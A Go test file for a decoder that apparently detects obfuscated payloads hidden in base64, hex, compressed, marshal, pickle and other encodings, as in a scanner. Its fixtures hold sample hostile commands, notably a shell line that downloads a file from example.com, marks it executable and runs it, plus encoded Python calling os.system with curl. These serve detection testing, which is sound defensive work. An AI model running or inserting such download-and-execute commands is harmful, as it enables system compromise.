package decode

import (
	"encoding/base64"
	"encoding/hex"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// plainCode is the text that the packed forms below hold, as CPython's modules wrote them.
var plainCode = strings.Repeat("import os\nfor name in ('a', 'b'):\n    os.system('echo ' + name)\n", 3)

const (
	packedXZ    = "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4AC/AENdADSbSme4Ujxz7TRXVDn/0CN06wv1UkbsUObO/CDkptOzGplYREE17CuzC3J9vuYFYtisJ3skR6BFUFh0fW2Zrw414AAAAOcVDz0JRoi0AAFfwAEAAABB4SRvscRn+wIAAAAABFla"
	packedLZMA  = "XQAAgAD//////////wA0m0pnuFI8c+00V1Q5/9AjdOsL9VJG7FDmzvwg5KbTsxqZWERBNewrswtyfb7mBWLYrCd7JEegRVBYdH1tma9stHf//9HbEAA="
	packedBzip2 = "QlpoOTFBWSZTWe5aV6gAAD7ZgEAQQO0AEDtj3CAgAHBQADQMmQR+qhTI9JkxMn6iVXS8rIjByycrtktHS7du2WUUS9LrKNWqrOFGDGFWTVwouxe4TC0JS6WSzfoh27S4h/F3JFOFCQ7lpXqA"
	packedGzip  = "H4sIAAAAAAACA8vMLcgvKlHIL+ZKyy9SyEvMTVXIzFPQUE9U11FQT1LXtOJSAIL8Yr3iyuKS1FwN9dTkjHwFdQVtsFpNrswB1g8A4gjF6sAAAAA="
	packedZlib  = "eJzLzC3ILypRyC/mSssvUshLzE1VyMxT0FBPVNdRUE9S17TiUgCC/GK94sriktRcDfXU5Ix8BXUFbbBaTa7MAdYPAIWSOA4="
	packedRaw   = "y8wtyC8qUcgv5krLL1LIS8xNVcjMU9BQT1TXUVBPUte04lIAgvxiveLK4pLUXA311OSMfAV1BW2wWk2uzAHWDwA="
	packedZip   = "UEsDBBQAAAAIAEaYeV37I9wQCwAAAAkAAAAEAAAAeC5wecvMLcgvKlGo4AIAUEsDBBQAAAAIAEaYeV3MDxoUGwAAABkAAAALAAAAX19tYWluX18ucHnLzC3ILypRyC/myi/WK64sLknN1VCqUNLkAgBQSwMEFAAAAAgARph5XR8oqmcEAAAAAgAAAAgAAABkYXRhLnR4dMvLBwBQSwECFAMUAAAACABGmHld+yPcEAsAAAAJAAAABAAAAAAAAAAAAAAAgAEAAAAAeC5weVBLAQIUAxQAAAAIAEaYeV3MDxoUGwAAABkAAAALAAAAAAAAAAAAAACAAS0AAABfX21haW5fXy5weVBLAQIUAxQAAAAIAEaYeV0fKKpnBAAAAAIAAAAIAAAAAAAAAAAAAACAAXEAAABkYXRhLnR4dFBLBQYAAAAAAwADAKEAAACbAAAAAAA="
	codeMarshal = "YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE7aAXgpAtoCb3PaBnN5c3RlbakA8wAAAAByAgAAAPoIPG1vZHVsZT5yBwAAAAEAAABzIQAAAPADAQEB2AAJgAmACYAJ2AAJgAKECYgjgQ6EDoAOgA6ADnIGAAAA"
	codePickle  = "gASVRQAAAAAAAABdlCiMFGh0dHA6Ly9leGFtcGxlLmNvbS94lEsBSwJLA4wgYWJjZGVmZ2hhYmNkZWZnaGFiY2RlZmdoYWJjZGVmZ2iUZS4="
)

func raw(t testing.TB, s string) string {
	b, err := base64.StdEncoding.DecodeString(s)
	require.NoError(t, err)
	return string(b)
}

func TestFunctions(t *testing.T) {
	start := plainCode[:20]
	for name, in := range map[string]struct{ in, want string }{
		"base64.b64decode":         {"aW1w\nb3J0!IG9zCmZvciBuYW1l", start[:18]},
		"base64.urlsafe_b64decode": {"-_-_", "\xfb\xff\xbf"},
		"binascii.a2b_base64":      {"YQ", "a"},
		"base64.b32decode":         {"NFWXA33SOQQG64YKMZXXEIDOMFWWKIDJ", start},
		"base64.b16decode":         {"696D70", "imp"},
		"builtins.bytes.fromhex":   {"69 6d 70", "imp"},
		"base64.b85decode":         {"X>D+Ca&#bXa|&i}av*MDZDk;7", start},
		"base64.a85decode":         {"<~Bl.g-Ec`FBEscMtEZf7.D.Oi(~>", start},
		"base64.z85decode":         {"HelloWorld", "\x86\x4F\xD2\x6F\xB5\x59\xF7\x5B"},
		"binascii.a2b_uu":          {"#86)C", "abc"},
		"quopri.decodestring":      {"a=3D=C3=A9=\n=09b", "a=é\tb"},
		"zlib.decompress":          {raw(t, packedZlib), plainCode},
		"gzip.decompress":          {raw(t, packedGzip), plainCode},
		"bz2.decompress":           {raw(t, packedBzip2), plainCode},
		"lzma.decompress":          {raw(t, packedXZ), plainCode},
	} {
		t.Run(name, func(t *testing.T) {
			step := Function(name)
			require.NotNil(t, step)
			out, ok := step.Run(in.in, 1<<16)
			require.True(t, ok)
			require.Equal(t, in.want, out)
		})
	}
	require.Nil(t, Function("os.system"))
	out, ok := Zlib(raw(t, packedRaw), 1<<16)
	require.Equal(t, plainCode, out)
	require.True(t, ok)
	out, _ = LZMA(raw(t, packedLZMA), 1<<16)
	require.Equal(t, plainCode, out)
	out, _ = zip(raw(t, packedZip), 1<<16)
	require.Equal(t, "import os\nos.system(\"x\")\n\nimport x\n\n", out)
	out, ok = Base64With("!@!@", "!@", 100)
	require.Equal(t, "\xfb\xff\xbf", out)
	require.True(t, ok)
}

func TestCodecs(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"rot_13":           {"vzcbeg bf", "import os"},
		"ROT13":            {"nz", "am"},
		"hex_codec":        {"6f73", "os"},
		"base64":           {"b3M=\n", "os"},
		"zip":              {raw(t, packedZlib), plainCode},
		"uu":               {"begin 666 <data>\n#86)C\n \nend\n", "abc"},
		"quoted-printable": {"=6Fs", "os"},
		"punycode":         {"bcher-strae-46a18a", "bücher-straße"},
		"unicode_escape":   {`\x6f\u0073\163\n\q\U0001F600`, "oss\n\\q😀"},
		"utf-7":            {"a+-+AOkgrA<x>", "a+é€<x>"},
		"utf-16":           {"\xFF\xFEo\x00s\x00=\xD8\x00\xDE", "os😀"},
		"utf_16_be":        {"\x00o\x00s", "os"},
		"utf-32-le":        {"o\x00\x00\x00s\x00\x00\x00", "os"},
	} {
		t.Run(name, func(t *testing.T) {
			step := Codec(name)
			require.NotNil(t, step)
			out, ok := step.Run(c.in, 1<<16)
			require.True(t, ok)
			require.Equal(t, c.want, out)
		})
	}
	for _, name := range []string{"utf-8", "latin-1", "", strings.Repeat("x", 100)} {
		require.Nil(t, Codec(name))
	}
	require.Equal(t, "brotli", Unsupported("brotli.decompress"))
	require.Equal(t, "zstandard", Unsupported("zstandard.ZstdDecompressor.decompress"))
	require.Empty(t, Unsupported("zlib.decompress"))
	out, ok := XOR("\x0e\x12", "ab")
	require.Equal(t, "op", out)
	require.True(t, ok)
	_, ok = XOR("a", "")
	require.False(t, ok)
	require.Equal(t, "éba", Reverse("abé"))
}

// TestBounds holds every decoder to the bytes that it may give, on good data
// and on cut data.
func TestBounds(t *testing.T) {
	for name, in := range map[string]string{"lzma.decompress": packedXZ, "zlib.decompress": packedZlib, "gzip.decompress": packedGzip, "bz2.decompress": packedBzip2} {
		data := raw(t, in)
		for size := range len(data) {
			out, _ := Function(name).Run(data[:size], 1<<16)
			require.True(t, strings.HasPrefix(plainCode, out), "%s cut at %d", name, size)
		}
		out, ok := Function(name).Run(data, 50)
		require.True(t, ok)
		require.Equal(t, plainCode[:50], out)
	}
}

func TestFind(t *testing.T) {
	encode := base64.StdEncoding.EncodeToString
	code := "import os\nos.system('curl http://example.com/x')\nprint('some more text to be long enough')\n"
	for name, c := range map[string]struct {
		in    string
		bytes bool
		steps string
		kind  Kind
	}{
		"base64 of code":           {encode([]byte(code)), false, "base64", Python},
		"on lines":                 {strings.Join([]string{encode([]byte(code))[:60], encode([]byte(code))[60:]}, "\n"), false, "base64", Python},
		"urlsafe without padding":  {base64.RawURLEncoding.EncodeToString([]byte(code + "?>?>?>")), false, "base64", Python},
		"hex":                      {hex.EncodeToString([]byte(code)), false, "hex", Python},
		"twice":                    {encode([]byte(encode([]byte(code)))), false, "base64 base64", Python},
		"zlib":                     {packedZlib, false, "base64 zlib", Python},
		"bz2":                      {packedBzip2, false, "base64 bz2", Python},
		"xz":                       {packedXZ, false, "base64 lzma", Python},
		"lzma":                     {packedLZMA, false, "base64 lzma", Python},
		"zip":                      {packedZip, false, "base64 zip", Python},
		"marshal":                  {codeMarshal, false, "base64", Marshal},
		"pickle":                   {codePickle, false, "base64", Pickle},
		"bytes":                    {raw(t, packedZlib), true, "zlib", Python},
		"reversed":                 {Reverse(encode([]byte(code + "\n"))), false, "reverse base64", Python},
		"reversed with padding":    {Reverse(encode([]byte(code + "#"))), false, "reverse base64", Python},
		"shell":                    {encode([]byte("curl -s http://example.com/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")), false, "base64", Shell},
		"text with an address":     {encode([]byte("some words about the server, which is at https://example.com/path")), false, "base64", Text},
		"a short address":          {encode([]byte("https://example.com/a")), false, "base64", Text},
		"text without one":         {encode([]byte("some words that only look as if they were of interest to anybody")), false, "", 0},
		"digest":                   {strings.Repeat("d41d8cd98f00b204e9800998ecf8427e", 4), false, "", 0},
		"image":                    {encode([]byte("\x89PNG\r\n\x1a\n" + strings.Repeat("\x00\x13\xfe\x80", 40))), false, "", 0},
		"random":                   {encode([]byte(XORed(strings.Repeat("\x91\x12\xb3\xf4\x55", 40)))), false, "", 0},
		"identifier":               {strings.Repeat("AbstractSingletonProxyFactoryBean", 4), false, "", 0},
		"words":                    {strings.Repeat("some words of a text ", 10), false, "", 0},
		"table of base64":          {upper + lower + digits + "+/", false, "", 0},
		"zlib that is no text":     {encode([]byte(raw(t, packedZlib)[:4] + strings.Repeat("\xff\x00\x11", 40))), false, "", 0},
		"short":                    {encode([]byte("import os")), false, "", 0},
		"public key":               {"MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0", false, "", 0},
		"bytes that are not right": {"\x78\x9c" + strings.Repeat("\x00\xff\x91", 60), true, "", 0},
	} {
		t.Run(name, func(t *testing.T) {
			h, ok := Find([]byte(c.in), c.bytes)
			require.Equal(t, c.steps != "", ok, "%v %.40q", h.Steps, h.Text)
			if ok {
				require.Equal(t, c.steps, strings.Join(h.Steps, " "))
				require.Equal(t, c.kind, h.Kind)
			}
		})
	}
}

func TestStrings(t *testing.T) {
	require.Contains(t, strings.Split(Strings(raw(t, codeMarshal)), "\n"), "system")
	require.Equal(t, "http://example.com/x\nabcdefghabcdefghabcdefghabcdefgh\n", Strings(raw(t, codePickle)))
	require.Empty(t, Strings("z\xffshort"))
}

// XORed scatters bytes so that no run repeats.
func XORed(s string) string {
	b := []byte(s)
	x := uint32(7)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] ^= byte(x >> 24)
	}
	return string(b)
}

func FuzzDecode(f *testing.F) {
	for _, s := range []string{packedXZ, packedLZMA, packedBzip2, packedGzip, packedZlib, packedRaw, packedZip, codeMarshal, codePickle} {
		f.Add([]byte(raw(f, s)))
		f.Add([]byte(s))
	}
	for _, s := range []string{"<~Bl.g-Ec`FBz~>", "begin 666 a\n#86)C\n", `\x6f\u0073`, "a+-+AOkgrA", "bcher-46a", "=3D=\n", "\xFF\xFEo\x00"} {
		f.Add([]byte(s))
	}
	const most = 4096
	f.Fuzz(func(t *testing.T, data []byte) {
		in := string(data)
		run := func(s *Step) {
			out, _ := s.Run(in, most)
			// Characters may take more bytes than what they are written with.
			require.LessOrEqual(t, len(out), most+64, s.Name)
			again, _ := s.Run(in, most)
			require.Equal(t, out, again, s.Name)
		}
		for _, s := range functions {
			run(s)
		}
		for name, s := range codecs {
			if name != "punycode" {
				run(s)
			}
		}
		punycode(in, most)
		run(stepZip)
		run(stepDeflate)
		for _, bytes := range []bool{false, true} {
			h, ok := Find(data, bytes)
			require.LessOrEqual(t, len(h.Text), maxBlob+64)
			if ok {
				require.NotEmpty(t, h.Steps)
				require.True(t, MayHide(data, bytes))
			}
		}
	})
}
